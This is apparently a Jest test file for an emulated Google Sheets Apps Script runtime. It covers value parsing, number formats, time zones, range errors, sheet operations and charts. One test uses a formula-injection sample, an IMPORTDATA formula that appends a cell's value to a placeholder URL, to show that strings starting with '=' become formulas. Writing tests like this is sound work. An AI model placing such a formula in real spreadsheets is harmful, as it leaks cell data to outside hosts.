import { runtimeWith } from './fixture';
import type { WorkbookModel } from '../../scripts/runtime/workbook';
import { sheetFromValues } from '../../scripts/runtime/workbook';

const CODE = `
function write(a1, values) { SpreadsheetApp.getActive().getRange(a1).setValues(values); }
function read(a1) { return SpreadsheetApp.getActive().getRange(a1).getValues(); }
function display(a1) { return SpreadsheetApp.getActive().getRange(a1).getDisplayValues(); }
function formulas(a1) { return SpreadsheetApp.getActive().getRange(a1).getFormulas(); }
function writeAsText(a1, values) {
  var range = SpreadsheetApp.getActive().getRange(a1);
  range.setNumberFormat('@');
  range.setValues(values);
}
function sheetCall(name, method) {
  var sheet = SpreadsheetApp.getActive().getSheetByName(name);
  return sheet[method].apply(sheet, Array.prototype.slice.call(arguments, 2));
}
function rangeBy(row, column, rows, columns) { return SpreadsheetApp.getActive().getSheetByName('Data').getRange(row, column, rows, columns).getA1Notation(); }
function addSheet(name, index) { return SpreadsheetApp.getActive().insertSheet(name, index).getName(); }
function select(name, a1) { SpreadsheetApp.getActive().getSheetByName(name).getRange(a1).activate(); }
function activeRange() { var r = SpreadsheetApp.getActiveRange(); return r.getSheet().getName() + '!' + r.getA1Notation(); }
function sheetNames() { return SpreadsheetApp.getActive().getSheets().map(function (s) { return s.getName(); }); }
function chart() {
  var sheet = SpreadsheetApp.getActive().getSheetByName('Data');
  sheet.insertChart(sheet.newChart().setChartType(Charts.ChartType.BAR).addRange(sheet.getRange('A1:B3')).setPosition(5, 2, 0, 0).setOption('title', 'Profit').build());
  var charts = sheet.getCharts();
  return [charts.length, charts[0].getRanges()[0].getA1Notation(), charts[0].getOptions().get('title')];
}
`;

function workbook(): WorkbookModel {
  return {
    timeZone: 'America/Los_Angeles',
    sheets: [
      sheetFromValues(
        'Data',
        [
          ['Order ID', 'Amount'],
          ['a', 1],
          ['b', 2],
        ],
        1,
      ),
    ],
  };
}

describe('Range values behave like Sheets user-entered values', () => {
  it('turns a string starting with = into a formula, which is what formula injection exploits', () => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('write', 'C1:C2', [['=IMPORTDATA("https://x/?d="&A2)'], ["'=SUM(1,2)"]]);
    expect(rt.call('formulas', 'C1:C2')).toEqual([['=IMPORTDATA("https://x/?d="&A2)'], ['']]);
    expect(rt.call('read', 'C2')).toEqual([['=SUM(1,2)']]);
  });

  it.each([
    ['123', 123],
    ['1,234.5', 1234.5],
    ['-3', -3],
    ['12%', 0.12],
    ['$12.50', 12.5],
    ['+15551234567', 15551234567],
    ['TRUE', true],
    ['false', false],
    ['123456789012345678', 123456789012346000],
    ['12 apples', '12 apples'],
    ['1,23', '1,23'],
    ['', ''],
  ])('stores %j as %j', (input, stored) => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('write', 'D1', [[input]]);
    expect(rt.call('read', 'D1')).toEqual([[stored]]);
  });

  it('reads a date string as a date in the spreadsheet time zone', () => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('write', 'D1:D2', [['2026-03-14'], ['3/14/2026 5:02:11 PM']]);
    const [[isoDate], [usDateTime]] = rt.call('read', 'D1:D2') as Date[][];
    expect(isoDate.toISOString()).toBe('2026-03-14T07:00:00.000Z');
    expect(usDateTime.toISOString()).toBe('2026-03-15T00:02:11.000Z');
    expect(rt.call('display', 'D1:D2')).toEqual([['2026-03-14'], ['3/14/2026 17:02:11']]);
  });

  it("keeps a 19-digit order ID exactly when the cell is formatted '@'", () => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('writeAsText', 'E1:E3', [['5765432109876543210'], ['=1+1'], ['007']]);
    expect(rt.call('read', 'E1:E3')).toEqual([['5765432109876543210'], ['=1+1'], ['007']]);
    expect(rt.call('formulas', 'E1:E3')).toEqual([[''], [''], ['']]);
  });

  it('keeps numbers, booleans and Dates as they are, and returns empty cells as blank strings', () => {
    const rt = runtimeWith(CODE, workbook());
    const when = new Date('2026-01-02T03:04:05Z');
    rt.call('write', 'A5:D5', [[1.5, false, when, null]]);
    const [row] = rt.call('read', 'A5:E5') as unknown[][];
    expect(row).toEqual([1.5, false, when, '', '']);
    expect(row[2]).not.toBe(when);
  });

  it('refuses data whose shape differs from the range with Apps Script messages', () => {
    const rt = runtimeWith(CODE, workbook());
    expect(() => rt.call('write', 'A1:B2', [[1, 2]])).toThrow(
      'The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.',
    );
    expect(() => rt.call('write', 'A1:B2', [[1, 2], [3]])).toThrow(
      'The number of columns in the data does not match the number of columns in the range. The data has 1 but the range has 2.',
    );
  });

  it('displays numbers and dates with their number format in the spreadsheet time zone', () => {
    const model = workbook();
    model.sheets[0].rows.push([
      { value: 1234.5, numberFormat: '#,##0.00' },
      { value: 0.125, numberFormat: '0.0%' },
      { value: new Date('2026-03-14T07:30:00Z'), numberFormat: 'yyyy-mm-dd hh:mm' },
      { value: -5, numberFormat: '"$"#,##0.00;("$"#,##0.00)' },
      { value: 'plain text' },
      { value: 123456789012345680 },
    ]);
    const rt = runtimeWith(CODE, model);
    expect(rt.call('display', 'A4:F4')).toEqual([
      ['1,234.50', '12.5%', '2026-03-14 00:30', '($5.00)', 'plain text', '1.23457E+17'],
    ]);
  });
});

describe('Sheet and Spreadsheet', () => {
  it('opens whole-column and whole-row ranges to the grid size of a new sheet', () => {
    const rt = runtimeWith(CODE, workbook());
    expect((rt.call('read', 'Data!A:B') as unknown[]).length).toBe(1000);
    expect((rt.call('read', 'Data!2:3') as unknown[][])[0].length).toBe(26);
    expect(rt.call('rangeBy', 2, 1, 2, 2)).toBe('A2:B3');
  });

  it('refuses ranges outside the grid like Apps Script', () => {
    const rt = runtimeWith(CODE, workbook());
    expect(() => rt.call('rangeBy', 1001, 1, 1, 1)).toThrow(
      'The coordinates of the range are outside the dimensions of the sheet.',
    );
    expect(() => rt.call('rangeBy', 0, 1, 1, 1)).toThrow('The starting row of the range is too small.');
    expect(() => rt.call('read', 'Nowhere!A1')).toThrow('Range not found');
  });

  it('reports the last row and column of content, not of formatting', () => {
    const model = workbook();
    model.sheets[0].rows.push([], [{ value: '', numberFormat: '@' }, { value: '' }, { value: 'x' }]);
    const rt = runtimeWith(CODE, model);
    expect(rt.call('sheetCall', 'Data', 'getLastRow')).toBe(5);
    expect(rt.call('sheetCall', 'Data', 'getLastColumn')).toBe(3);
    expect(rt.call('sheetCall', 'Data', 'getFrozenRows')).toBe(1);
  });

  it('inserts and deletes rows, growing and shrinking the grid', () => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('sheetCall', 'Data', 'insertRowsAfter', 1, 2);
    expect(rt.call('read', 'A1:A5')).toEqual([['Order ID'], [''], [''], ['a'], ['b']]);
    expect(rt.call('sheetCall', 'Data', 'getMaxRows')).toBe(1002);
    rt.call('sheetCall', 'Data', 'deleteRows', 2, 3);
    expect(rt.call('read', 'A1:A2')).toEqual([['Order ID'], ['b']]);
    expect(rt.call('sheetCall', 'Data', 'getMaxRows')).toBe(999);
  });

  it('appends a row after the last row of content, parsing values like setValues', () => {
    const rt = runtimeWith(CODE, workbook());
    rt.call('sheetCall', 'Data', 'appendRow', ['c', '3']);
    expect(rt.call('read', 'A4:B4')).toEqual([['c', 3]]);
  });

  it('inserts sheets at an index, refuses duplicate names regardless of case and finds sheets the same way', () => {
    const rt = runtimeWith(CODE, workbook());
    expect(rt.call('addSheet', 'Orders', 0)).toBe('Orders');
    expect(rt.call('sheetNames')).toEqual(['Orders', 'Data']);
    expect(() => rt.call('addSheet', 'orders')).toThrow(
      'A sheet with the name "orders" already exists. Please enter another name.',
    );
    expect(rt.call('sheetCall', 'ORDERS', 'getName')).toBe('Orders');
    expect(rt.spreadsheet.getActiveSheet().getName()).toBe('Orders');
  });

  it('selects a range with Range.activate, its sheet becoming the active one', () => {
    const rt = runtimeWith(CODE, workbook());
    expect(rt.call('activeRange')).toBe('Data!A1');
    rt.call('addSheet', 'Other');
    rt.call('select', 'Data', 'B2:B3');
    expect(rt.call('activeRange')).toBe('Data!B2:B3');
    rt.call('sheetCall', 'Other', 'activate');
    expect(rt.call('activeRange')).toBe('Other!A1');
  });

  it('records charts built with EmbeddedChartBuilder on the sheet', () => {
    const rt = runtimeWith(CODE, workbook());
    expect(rt.call('chart')).toEqual([1, 'A1:B3', 'Profit']);
    expect(rt.workbook.sheets[0].charts).toEqual([
      expect.objectContaining({
        type: 'BAR',
        ranges: ['Data!A1:B3'],
        position: { row: 5, column: 2, offsetX: 0, offsetY: 0 },
      }),
    ]);
  });
});

describe('Sheet.insertColumnsAfter', () => {
  it('widens the grid and shifts cells right of the position', () => {
    const rt = runtimeWith(CODE, { timeZone: 'UTC', sheets: [sheetFromValues('S', [['a', 'b', 'c']])] });
    const sheet = rt.spreadsheet.getSheetByName('S')!;
    const before = sheet.getMaxColumns();
    sheet.insertColumnsAfter(1, 2);
    expect(sheet.getMaxColumns()).toBe(before + 2);
    expect(sheet.getRange(1, 1, 1, 5).getValues()).toEqual([['a', '', '', 'b', 'c']]);
    expect(() => sheet.insertColumnsAfter(before + 5, 1)).toThrow('out of bounds');
  });
});
